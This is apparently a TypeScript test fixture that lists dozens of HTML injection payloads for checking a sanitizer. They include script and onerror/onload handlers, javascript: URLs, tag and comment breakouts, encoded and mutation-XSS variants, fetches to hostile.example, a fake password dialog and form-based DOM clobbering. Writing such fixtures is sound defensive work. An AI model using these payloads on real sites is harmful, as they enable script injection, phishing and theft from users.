/** HTML that does something as soon as a browser takes it for HTML, and such that waits for a reader or a second look. */

/** Makes a text from a statement that says that it ran, and an address that is to be fetched. */
type Attempt = (run: string, url: string) => string

const ATTEMPTS: Record<string, Attempt> = {
  script: (run) => `<script>${run}</script>`,
  'script from elsewhere': (_, url) => `<script src="${url}"></script>`,
  'module from elsewhere': (_, url) => `<script type=module src="${url}"></script>`,
  'script that fails': (run) => `<script src=x: onerror=${run}></script>`,
  'script after a script’s end': (run) => `</script><script>${run}</script>`,
  'broken image': (run) => `<img src=x: onerror=${run}>`,
  'broken image in capitals': (run) => `<IMG SRC="x:" ONERROR="${run}">`,
  'broken image without blanks': (run) => `<img/src="x:"/onerror="${run}">`,
  'image with entities': (run) => `<img src=x: onerror="${entities(run)}">`,
  'image from elsewhere': (_, url) => `<img src="${url}">`,
  'image of a set': (_, url) => `<img srcset="${url} 1x">`,
  'picture of choice': (_, url) => `<picture><source srcset="${url}"><img></picture>`,
  'image without a scheme': (_, url) => `<img src="${url.replace('https:', '')}">`,
  'image after an attribute': (run) => `"><img src=x: onerror=${run}>`,
  'image after an apostrophe': (run) => `'><img src=x: onerror=${run}>`,
  'image after a title': (run) => `</title><img src=x: onerror=${run}>`,
  'image after a text area': (run) => `</textarea><img src=x: onerror=${run}>`,
  'image after a style': (run) => `</style><img src=x: onerror=${run}>`,
  'image after a comment': (run) => `--><img src=x: onerror=${run}>`,
  'image after an empty comment': (run) => `<!--><img src=x: onerror=${run}>-->`,
  'image after CDATA': (run) => `<![CDATA[><img src=x: onerror=${run}>]]>`,
  'image in a foreign object': (run) => `<svg><foreignObject><img src=x: onerror=${run}>`,
  'image as a button': (_, url) => `<input type=image src="${url}">`,
  'broken button': (run) => `<input type=image src=x: onerror=${run}>`,
  'image under an address of its own': (_, url) => `<base href="${url}/"><img src=a>`,
  'drawing that loads': (run) => `<svg onload=${run}>`,
  'drawing without a blank': (run) => `<svg/onload=${run}>`,
  'drawing with an image': (_, url) => `<svg><image href="${url}"/></svg>`,
  'drawing with a script': (run) => `<svg><script>${run}</script></svg>`,
  'drawing with a script in entities': (run) => `<svg><script>${entities(run)}</script></svg>`,
  'drawing that begins to move': (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  'drawing that sets': (run) => `<svg><set onbegin=${run} attributeName=x>`,
  'frame from elsewhere': (_, url) => `<iframe src="${url}"></iframe>`,
  'frame with a document': (run) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  'frame with a script for an address': (run) => `<iframe src="javascript:${run}"></iframe>`,
  'frame that loads': (run) => `<iframe onload=${run}></iframe>`,
  object: (_, url) => `<object data="${url}"></object>`,
  embedding: (_, url) => `<embed src="${url}">`,
  'poster of a video': (_, url) => `<video poster="${url}"></video>`,
  'broken video': (run) => `<video src=x: onerror=${run}></video>`,
  'broken source': (run) => `<video><source src=x: onerror=${run}></video>`,
  'broken sound': (run) => `<audio src=x: onerror=${run}></audio>`,
  'style from elsewhere': (_, url) => `<link rel=stylesheet href="${url}">`,
  'broken style': (run) => `<link rel=stylesheet href=x: onerror=${run}>`,
  'preloaded image': (_, url) => `<link rel=preload as=image href="${url}">`,
  'preloaded module': (_, url) => `<link rel=modulepreload href="${url}">`,
  'style that imports': (_, url) => `<style>@import "${url}";</style>`,
  'style that loads': (run) => `<style onload=${run}></style>`,
  'style of an element': (_, url) => `<b style="background:url(${url})">x</b>`,
  'background of a table': (_, url) => `<table background="${url}"><tr><td>x</table>`,
  'background of a body': (_, url) => `<body background="${url}">x`,
  'body that loads': (run) => `<body onload=${run}>`,
  'page that goes elsewhere': (_, url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  'opened details': (run) => `<details open ontoggle=${run}>x</details>`,
  animation: (run) =>
    `<style>@keyframes k{from{opacity:0}}</style><b style="animation:k 1ms" onanimationstart=${run}>x</b>`,
}

const entities = (text: string): string =>
  text.replaceAll(/./g, (sign) => `&#x${sign.charCodeAt(0).toString(16)};`)

/** The statement adds to a list that the page's own window holds; a test looks into the list. */
export const LIVE_HTML = Object.entries(ATTEMPTS).map(([name, attempt], index) => ({
  name,
  text: attempt(`top.__ran.push(${index})`, `https://hostile.example/${index}`),
}))

const RUN = 'top.__ran.push(1000)'
const QUIET = {
  'link to a script': `<a href="javascript:${RUN}">x</a>`,
  'link that tells': '<a href="https://hostile.example/a" ping="https://hostile.example/ping">x</a>',
  'button that sends': `<form><button formaction="javascript:${RUN}">x</button></form>`,
  'form that sends': '<form action="https://hostile.example/form"><input name=q></form>',
  'field that takes the focus': `<input autofocus onfocus=${RUN}>`,
  'pointer over it': `<b onmouseover=${RUN}>x</b>`,
  'broken object': `<object data=x: onerror=${RUN}></object>`,
  'moving text': `<marquee onstart=${RUN}>x</marquee>`,
  template: `<template><script>${RUN}</script></template>`,
  'entities for angles': `&lt;img src=x: onerror=${RUN}&gt;`,
  'entities twice': `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  'escapes of a script': `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  'percent signs': `%3Cscript%3E${RUN}%3C/script%3E`,
  'wide angles': `＜script＞${RUN}＜/script＞`,
  'NUL in a tag': `<scr\0ipt>${RUN}</scr\0ipt>`,
  'changes when read twice': `<math><mtext><table><mglyph><style><img src=x: onerror=${RUN}>`,
  'noscript and an attribute': `<noscript><p title="</noscript><img src=x: onerror=${RUN}>">`,
  'open comment': '<!-- and the rest of the page is gone',
  'open tag': '<b title="and the rest of the page is gone',
  'closing tags': '</p></div></section></main></body></html>',
  'plain tags': '<b>bold</b><table><tr><td>cell',
  dialog: '<dialog open>Sign in again: <input type=password></dialog>',
  'names that forms give': '<form id=location><input name=href><img name=cookie>',
}
export const QUIET_HTML = Object.entries(QUIET).map(([name, text]) => ({ name, text }))
